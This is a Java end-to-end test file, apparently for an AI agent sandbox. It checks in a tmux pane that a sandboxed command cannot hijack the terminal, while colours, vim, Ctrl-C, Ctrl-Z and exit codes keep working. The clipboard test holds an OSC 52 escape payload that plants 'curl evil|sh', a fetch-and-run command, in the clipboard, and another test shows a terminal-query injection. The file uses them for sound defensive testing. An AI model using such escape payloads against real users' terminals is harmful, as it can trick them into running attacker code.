// SPDX-License-Identifier: Apache-2.0
package agentsandbox.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * agent-sandbox typed into a shell in a real terminal (a tmux pane, as the test user), the
 * way a user runs it: what the sandbox writes to its terminal cannot set the clipboard or
 * the title, nor leave terminal answers to be typed into the shell after it ends; what
 * draws (colours, a full-screen editor) still works, and so do Ctrl-C, Ctrl-Z and fg, and
 * the exit status. Each attack is first shown to work without the sandbox, in the same pane.
 */
class TerminalIT {

    @RegisterExtension
    final SandboxCli sandbox = new SandboxCli();

    private static final AtomicInteger IDS = new AtomicInteger((int) (ProcessHandle.current().pid() % 500) * 10);
    private static final Duration WAIT = Duration.ofSeconds(20);

    private String server;
    private int step;

    private Map<String, String> tmuxEnv() {
        Map<String, String> env = new LinkedHashMap<>();
        env.put("TERM", "xterm-256color");
        env.put("SHELL", "/bin/sh");
        env.put("PS1", "$ ");
        return env;
    }

    private Result tmux(String... args) {
        List<String> command = new ArrayList<>(List.of("tmux", "-L", server));
        command.addAll(List.of(args));
        return sandbox.runOnHost(tmuxEnv(), command.toArray(String[]::new));
    }

    @BeforeEach
    void startTerminal() {
        server = "term" + IDS.incrementAndGet();
        tmux("-f", "/dev/null", "new-session", "-d", "-x", "120", "-y", "40", "/bin/sh").succeeds();
        tmux("set-option", "-g", "set-clipboard", "on").succeeds();
        tmux("set-option", "-g", "allow-rename", "on").succeeds();
        awaitScreen("the shell's prompt", s -> s.contains("$"));
    }

    @AfterEach
    void stopTerminal() {
        tmux("kill-server");
    }

    /** Types a line into the pane's shell and waits until the shell has run it (a marker printed). */
    private String type(String line) {
        String done = "done-" + (++step);
        tmux("send-keys", "-l", line + "; echo " + done.substring(0, 5) + "\"\"" + done.substring(5)).succeeds();
        tmux("send-keys", "Enter").succeeds();
        return awaitScreen("the end of: " + line, s -> s.lines().anyMatch(l -> l.equals(done)));
    }

    private String screen() {
        return tmux("capture-pane", "-p", "-J", "-S", "-200").succeeds().stdout();
    }

    private String awaitScreen(String what, Predicate<String> ready) {
        long deadline = System.nanoTime() + WAIT.toNanos();
        String s = screen();
        while (!ready.test(s) && System.nanoTime() < deadline) {
            pause(50);
            s = screen();
        }
        final String last = s;
        assertThat(ready.test(s)).as(() -> "waiting for " + what + "; the screen:\n" + last).isTrue();
        return s;
    }

    private static void pause(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    /** agent-sandbox's command line in the pane. */
    private String sandboxLine(String... args) {
        List<String> line = new ArrayList<>();
        line.add(Result.quote(sandbox.launcher().toString()));
        for (String a : args) {
            line.add(Result.quote(a));
        }
        return "cd " + Result.quote(sandbox.project().toString()) + " && " + String.join(" ", line);
    }

    private String buffers() {
        return tmux("list-buffers", "-F", "#{buffer_sample}").succeeds().stdout();
    }

    private String title() {
        return tmux("display-message", "-p", "#{pane_title}|#{window_name}").succeeds().stdout().strip();
    }

    @Test
    void The_Clipboard_And_The_Title_Cannot_Be_Set_From_Inside() {
        String attack = "printf '\\033]52;c;%s\\007\\033]2;%s\\007\\033]0;%s\\007\\033kname-%s\\033\\\\' \"$(printf "
                + "'curl evil|sh' | base64)\" title-evil title-evil evil; echo written";
        assertThat(buffers()).as("no paste buffer yet").isEmpty();

        // without the sandbox, the same bytes reach the terminal
        type("sh -c " + Result.quote(attack));
        assertThat(buffers()).as("the host's own OSC 52").contains("curl evil|sh");
        assertThat(title()).as("the host's own title").contains("title-evil");
        tmux("delete-buffer").succeeds();
        tmux("select-pane", "-T", "clean").succeeds();
        tmux("rename-window", "clean").succeeds();
        assertThat(buffers()).isEmpty();

        String screen = type(sandboxLine("--", "sh", "-c", attack) + "; echo status=$?");
        assertThat(screen).contains("written", "status=0");
        assertThat(buffers()).as("tmux's paste buffers after the sandbox's OSC 52").isEmpty();
        assertThat(title()).as("the title after the sandbox's OSC 0/2 and ESC k").isEqualTo("clean|clean");
    }

    @Test
    void Terminal_Answers_Are_Not_Typed_Into_The_Shell_After_The_Sandbox_Ends() {
        // DA1, DA2, XTVERSION, cursor position: the terminal answers each on its input
        String queries = "printf '\\033[c\\033[>c\\033[>0q\\033[6n'";

        // without the sandbox, the answers land in the shell's next command line
        tmux("send-keys", "-l", "sh -c " + Result.quote(queries)).succeeds();
        tmux("send-keys", "Enter").succeeds();
        pause(500);
        tmux("send-keys", "-l", "echo next-$((6*7))").succeeds();
        tmux("send-keys", "Enter").succeeds();
        assertThat(awaitScreen("the garbled line's end", s -> s.contains("not found")))
                .as("the host's own queries garble the next line").doesNotContainPattern("(?m)^next-42$");
        tmux("send-keys", "C-c").succeeds();
        tmux("clear-history").succeeds();
        tmux("send-keys", "clear", "Enter").succeeds();
        pause(300);

        tmux("send-keys", "-l", sandboxLine("--", "sh", "-c", queries)).succeeds();
        tmux("send-keys", "Enter").succeeds();
        pause(1500);
        String screen = type("echo next-$((6*7))");
        assertThat(screen).as("the next command line runs as typed").containsPattern("(?m)^next-42$")
                .doesNotContain("not found");
    }

    @Test
    void Colours_Pass_And_Vim_Edits_A_File() {
        String screen = type(sandboxLine("--", "sh", "-c", "printf '\\033[31mred-text\\033[0m\\n'"));
        assertThat(screen).contains("red-text");
        String coloured = tmux("capture-pane", "-p", "-e").succeeds().stdout();
        assertThat(coloured).as("the colour reached the terminal").contains("\u001b[31mred-text");

        tmux("send-keys", "-l", sandboxLine("--", "vim", "-u", "NONE", "-N", "edited.txt") + "; echo vim=$?")
                .succeeds();
        tmux("send-keys", "Enter").succeeds();
        awaitScreen("vim's screen", s -> s.contains("edited.txt"));
        tmux("send-keys", "i", "typed in vim", "Escape").succeeds();
        tmux("send-keys", ":wq", "Enter").succeeds();
        awaitScreen("vim's end", s -> s.contains("vim=0"));
        assertThat(sandbox.read(sandbox.project("edited.txt"))).isEqualTo("typed in vim\n");
    }

    @Test
    void Ctrl_C_Ends_With_130_And_The_Exit_Status_Passes_Through() {
        type(sandboxLine("--", "sh", "-c", "exit 7") + "; echo status=$?");
        assertThat(screen()).contains("status=7");

        tmux("send-keys", "-l", sandboxLine("--", "sh", "-c", "echo sl''eeping; sleep 60") + "; echo status=$?")
                .succeeds();
        tmux("send-keys", "Enter").succeeds();
        awaitScreen("the command's start", s -> s.contains("sleeping"));
        tmux("send-keys", "C-c").succeeds();
        awaitScreen("the end by Ctrl-C", s -> s.contains("status=130"));
    }

    /** With --share-tmp the socket guard is the command's parent: the terminal's job control is the same. */
    @Test
    void With_The_Shared_Tmp_Ctrl_C_Ctrl_Z_And_The_Exit_Status_Behave_The_Same() {
        type(sandboxLine("--share-tmp", "--", "sh", "-c", "exit 7") + "; echo status=$?");
        assertThat(screen()).contains("status=7");

        stopAndContinue("--share-tmp");

        tmux("send-keys", "-l", sandboxLine("--share-tmp", "--", "sh", "-c", "echo sl''eeping; sleep 60")
                + "; echo status=$?").succeeds();
        tmux("send-keys", "Enter").succeeds();
        awaitScreen("the command's start", s -> s.contains("sleeping"));
        tmux("send-keys", "C-c").succeeds();
        awaitScreen("the end by Ctrl-C", s -> s.contains("status=130"));
    }

    @Test
    void Ctrl_Z_Stops_The_Run_And_Fg_Continues_It() {
        stopAndContinue();
    }

    /**
     * A run of agent-sandbox with {@code flags} that reads a line: Ctrl-Z stops it, the
     * shell has the terminal (the line typed then is the shell's, not the sandbox's), and
     * {@code fg} brings the run back to read its line.
     */
    private void stopAndContinue(String... flags) {
        List<String> line = new java.util.ArrayList<>(List.of(flags));
        line.addAll(List.of("--", "sh", "-c", "echo st''arted; read line; echo got-$line"));
        tmux("send-keys", "-l", sandboxLine(line.toArray(new String[0]))).succeeds();
        tmux("send-keys", "Enter").succeeds();
        awaitScreen("the command's start", s -> s.contains("started"));
        tmux("send-keys", "C-z").succeeds();
        awaitScreen("the job stopped", s -> s.contains("Stopped"));
        type("echo shell-$((6*7))");
        assertThat(screen()).containsPattern("(?m)^shell-42$");
        tmux("send-keys", "-l", "fg").succeeds();
        tmux("send-keys", "Enter").succeeds();
        pause(1000);
        tmux("send-keys", "-l", "back").succeeds();
        tmux("send-keys", "Enter").succeeds();
        awaitScreen("the command's end after fg", s -> s.contains("got-back"));
    }

    @Test
    void Vim_Suspends_Itself_On_Ctrl_Z_And_Fg_Brings_It_Back() {
        tmux("send-keys", "-l", sandboxLine("--", "vim", "-u", "NONE", "-N", "suspended.txt")).succeeds();
        tmux("send-keys", "Enter").succeeds();
        awaitScreen("vim's screen", s -> s.contains("suspended.txt"));
        tmux("send-keys", "i", "before", "Escape").succeeds();
        awaitScreen("the text typed in vim", s -> s.contains("before") && !s.contains("-- INSERT --"));
        pause(1500); // vim's own wait after Escape, for a longer key code
        tmux("send-keys", "C-z").succeeds();
        awaitScreen("vim stopped", s -> s.contains("Stopped"));
        type("echo shell-$((6*7))");
        assertThat(screen()).containsPattern("(?m)^shell-42$");
        tmux("send-keys", "-l", "fg").succeeds();
        tmux("send-keys", "Enter").succeeds();
        awaitScreen("vim again", s -> s.contains("before") && !s.contains("shell-42"));
        tmux("send-keys", "A", " after", "Escape").succeeds();
        tmux("send-keys", ":wq", "Enter").succeeds();
        awaitScreen("the shell again", s -> s.lines().anyMatch(l -> l.startsWith("$")));
        pause(500);
        assertThat(sandbox.read(sandbox.project("suspended.txt"))).isEqualTo("before after\n");
    }
}
